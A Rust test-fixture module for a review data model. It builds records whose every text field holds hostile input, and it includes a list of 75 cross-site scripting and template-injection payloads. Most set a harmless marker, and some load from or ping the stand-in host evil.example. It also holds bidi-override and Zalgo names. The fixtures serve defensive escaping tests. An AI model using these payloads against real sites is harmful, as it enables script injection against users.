//! Records that wish the page ill, or just try it: markup and script in every field, and names that are long, turned around or
//! piled up. What a script of theirs would do is leave [`RAN`] behind, open a dialog, or ask [`FOREIGN`] for something.

use crosscut_model::{
    Aspect, AspectMention, Assumption, Evidence, Kind, Notation, Property, Rating, RatingValue, Review, Section,
    SectionKind, Stance, Statement,
};

/// A name in the window that is there once any of the scripts below ran.
pub const RAN: &str = "ran";

/// A host that nobody has (RFC 2606).
pub const FOREIGN: &str = "evil.example";

/// Ways to have a script run, a foreign host asked or the page taken apart, where text is taken for markup, an attribute, an
/// address, a style, a template or a script.
pub const INJECTIONS: [&str; 75] = [
    "<script>self.ran=1</script>",
    "\"><script>self.ran=1</script>",
    "'><script>self.ran=1</script>",
    "</script><script>self.ran=1</script>",
    "<ScRiPt>self.ran=1</sCrIpT>",
    "<scr<script>ipt>self.ran=1</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\"data:text/javascript,self.ran=1\"></script>",
    "<script type=module>self.ran=1</script>",
    "<img src=x onerror=self.ran=1>",
    "\"><img src=x onerror=self.ran=1>",
    "<img src=\"x\" onerror=\"self.ran=1\"//",
    "<img src=//evil.example/pixel.gif>",
    "<img/src/onerror=self.ran=1>",
    "<image src=x onerror=self.ran=1>",
    "<svg onload=self.ran=1>",
    "<svg/onload=self.ran=1>",
    "<svg><script>self.ran=1</script></svg>",
    "<svg><animate onbegin=self.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:self.ran=1\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=self.ran=1 />#x\"/></svg>",
    "<svg><foreignObject><body onload=self.ran=1></foreignObject></svg>",
    "<math><mtext><img src=x onerror=self.ran=1></mtext></math>",
    "<math><a xlink:href=javascript:self.ran=1>x</a></math>",
    "<iframe src=\"javascript:parent.ran=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<iframe onload=self.ran=1></iframe>",
    "<object data=\"javascript:self.ran=1\"></object>",
    "<embed src=\"javascript:self.ran=1\">",
    "<video><source onerror=self.ran=1></video>",
    "<video src=x onerror=self.ran=1></video>",
    "<audio src=x onerror=self.ran=1>",
    "<body onload=self.ran=1>",
    "<body onpageshow=self.ran=1>",
    "<input autofocus onfocus=self.ran=1>",
    "<select autofocus onfocus=self.ran=1>",
    "<textarea autofocus onfocus=self.ran=1>",
    "<details open ontoggle=self.ran=1>",
    "<marquee onstart=self.ran=1>x</marquee>",
    "<a href=\"javascript:self.ran=1\">x</a>",
    "<a href=\"java&#10;script:self.ran=1\">x</a>",
    "<form action=\"javascript:self.ran=1\"><button>x</button></form>",
    "<button formaction=\"javascript:self.ran=1\">x</button>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:self.ran=1\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import \"https://evil.example/x.css\"; body { display: none }</style>",
    "<style>@keyframes x {}</style><b style=animation-name:x onanimationstart=self.ran=1>",
    "<div style=\"background:url(https://evil.example/x.png)\" onmouseover=self.ran=1>x</div>",
    "<template><script>self.ran=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=self.ran=1>\">",
    "<xmp><img src=x onerror=self.ran=1></xmp>",
    "<!--><img src=x onerror=self.ran=1>-->",
    "<![CDATA[<img src=x onerror=self.ran=1>]]>",
    "javascript:self.ran=1",
    "JaVaScRiPt:self.ran=1//",
    "data:text/html,<script>self.ran=1</script>",
    "\" onmouseover=\"self.ran=1\" autofocus onfocus=\"self.ran=1\" x=\"",
    "' onfocus='self.ran=1' autofocus='",
    "` onfocus=self.ran=1 autofocus `",
    "&lt;img src=x onerror=self.ran=1&gt;",
    "&#60;script&#62;self.ran=1&#60;/script&#62;",
    "\\u003cscript\\u003eself.ran=1\\u003c/script\\u003e",
    "%3Cscript%3Eself.ran=1%3C/script%3E",
    "{{constructor.constructor('self.ran=1')()}}",
    "${self.ran=1}",
    "<%= self.ran=1 %>",
    "'; self.ran=1; //",
    "\"}]}; self.ran=1; [{\"",
    "</title><script>self.ran=1</script>",
    "</textarea><script>self.ran=1</script>",
    "</style><script>self.ran=1</script>",
    "<p/onpointerenter=self.ran=1>x</p>",
    "../../explore?kind=<script>self.ran=1</script>#\"><img src=x onerror=self.ran=1>",
    "<a href=\"https://evil.example\" ping=\"https://evil.example\" target=_blank>x</a>",
];

/// Names that no form was made for.
pub fn awkward_names() -> Vec<String> {
    // Four marks above and four below each letter.
    let piled: String = "Zalgo"
        .chars()
        .flat_map(|c| [c].into_iter().chain("\u{300}\u{301}\u{302}\u{303}\u{316}\u{317}\u{323}\u{324}".chars()))
        .collect();
    vec![
        "Donaudampfschiff".repeat(19)[..300].to_owned(),
        "a name that goes on and on and ".repeat(10)[..300].trim().to_owned(),
        "映画".repeat(150),
        "ألف ليلة وليلة (1001) — الجزء 2".to_owned(),
        "שלום עולם Alien³ 3:10 to Yuma".to_owned(),
        "\u{202e}drawkcab, and never turned back".to_owned(),
        "\u{2067}isolated, and never closed".to_owned(),
        "\u{202b}\u{202e}\u{202d}\u{202e}four deep".to_owned(),
        piled,
        "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪🧑🏿‍🚀".repeat(20),
        "two\nlines and\ta tab".to_owned(),
        "…".to_owned(),
    ]
}

/// A record in which every field that takes text has `words`.
pub fn record(number: usize, words: &str) -> Review {
    let own = || words.to_owned();
    let given = || Evidence::Given { given: own() };
    let assumed = || vec![Assumption { field: own(), reason: own() }];
    let statement = |property: &str, value: String, evidence| Statement {
        property: Property::new(property),
        value,
        character: Some(own()),
        assumed: assumed(),
        evidence,
    };
    let text = format!("{words}\n\n{words} and more of it.\n");
    let whole = || Evidence::Text { start: 0, end: words.len() };
    let facts = [
        "kind",
        "rating",
        "author",
        "publisher",
        "date_published",
        "item",
        "item_year",
        "language",
        "headline",
        "url",
        "abstract",
        words,
    ];
    Review {
        source_file: own(),
        id: format!("document-{number}"),
        kind: Kind::ALL[number % Kind::ALL.len()],
        rating: Some(rating(number, words)),
        author: Some(format!("{words} (author)")),
        publisher: Some(own()),
        date_published: format!("2021-08-{:02}", 1 + number % 28).parse().ok(),
        // Half of them are about one work, so that there is something to compare.
        item: Some(if number.is_multiple_of(2) { own() } else { INJECTIONS[0].to_owned() }),
        item_year: Some(2021),
        language: Some(own()),
        headline: (!number.is_multiple_of(3)).then(own),
        url: Some(format!("https://127.0.0.1/{words}")),
        statements: vec![
            statement("director", own(), given()),
            statement("actor", format!("{words} (actor)"), whole()),
            statement("title_meaning", own(), Evidence::Inferred { inferred: own() }),
            statement("duration", own(), given()),
            statement("year", own(), given()),
            statement(words, own(), given()),
        ],
        aspects: Aspect::ALL
            .into_iter()
            .zip(Stance::ALL.into_iter().cycle().skip(number))
            .map(|(aspect, stance)| AspectMention { aspect, stance, note: Some(own()), evidence: whole() })
            .collect(),
        tone: None,
        sections: vec![Section { kind: SectionKind::Heading, level: 1, title: own(), evidence: whole() }],
        abstract_text: Some(format!("{words}\n\n{words} in short.")),
        text: Some(text),
        assumed: ["item", "author", "date_published", words]
            .map(|field| Assumption { field: field.to_owned(), reason: own() })
            .to_vec(),
        evidence: facts.map(|fact| (fact.to_owned(), given())).into(),
    }
}

/// Stars, or a letter that no table knows.
fn rating(number: usize, words: &str) -> Rating {
    let letter = RatingValue::Text(words.to_owned());
    let (value, best, worst, notation) = match number % 7 {
        0 => (letter.clone(), letter.clone(), letter, Notation::Letter),
        _ => (
            RatingValue::Number((number % 6) as f64),
            RatingValue::Number(5.0),
            RatingValue::Number(0.0),
            Notation::Stars,
        ),
    };
    let assumed = vec![Assumption { field: "best".to_owned(), reason: words.to_owned() }];
    Rating { raw: words.to_owned(), value, best, worst, notation, score: None, assumed }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn there_are_enough_injections_and_no_two_are_equal() {
        assert_eq!(BTreeSet::from(INJECTIONS).len(), INJECTIONS.len());
        assert!(INJECTIONS.len() >= 50);
        let harmless = |words: &&str| !words.contains("ran") && !words.contains(FOREIGN);
        assert_eq!(INJECTIONS.iter().filter(|words| harmless(words)).collect::<Vec<_>>(), Vec::<&&str>::new());
    }

    #[test]
    fn every_text_of_a_record_is_hostile() {
        let record = serde_json::to_value(record(1, INJECTIONS[9])).expect("JSON");
        let mut tame = BTreeSet::new();
        texts(&record, "", &mut tame);
        let expected = [
            ".id",
            ".aspects.aspect",
            ".aspects.stance",
            ".date_published",
            ".item",
            ".kind",
            ".rating.assumed.field",
            ".rating.notation",
            ".sections.kind",
            ".statements.property",
            ".assumed.field",
        ];
        assert_eq!(tame, expected.map(str::to_owned).into());
    }

    /// The places of texts without the words.
    fn texts(value: &serde_json::Value, place: &str, tame: &mut BTreeSet<String>) {
        match value {
            serde_json::Value::String(text) if !text.contains(INJECTIONS[9]) => {
                tame.insert(place.to_owned());
            }
            serde_json::Value::Array(values) => values.iter().for_each(|value| texts(value, place, tame)),
            serde_json::Value::Object(fields) => {
                fields.iter().for_each(|(name, value)| texts(value, &format!("{place}.{name}"), tame));
            }
            _ => {}
        }
    }
}
